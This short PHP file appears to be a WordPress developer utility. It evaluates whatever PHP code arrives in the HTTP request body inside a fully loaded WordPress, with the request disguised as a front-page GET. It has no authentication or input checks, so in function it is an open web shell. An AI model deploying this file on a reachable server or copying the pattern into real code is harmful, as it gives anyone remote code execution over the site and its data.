<?php
// Runs the code of the request's body inside this WordPress, as if a visitor had asked for the
// front page. The last line is printed when all is done, also what runs at the end of a request.
$igny8_code = file_get_contents('php://input');
$_SERVER['HTTP_HOST'] = '127.0.0.1';
$_SERVER['REQUEST_METHOD'] = 'GET';
$_SERVER['REQUEST_URI'] = '/';
unset($_SERVER['CONTENT_TYPE'], $_SERVER['CONTENT_LENGTH'], $_SERVER['HTTP_CONTENT_TYPE'], $_SERVER['HTTP_CONTENT_LENGTH']);
ob_start();
require $_SERVER['DOCUMENT_ROOT'] . '/wp-load.php';
eval($igny8_code);
register_shutdown_function(function () {
    echo "\n-- came to its end --";
});
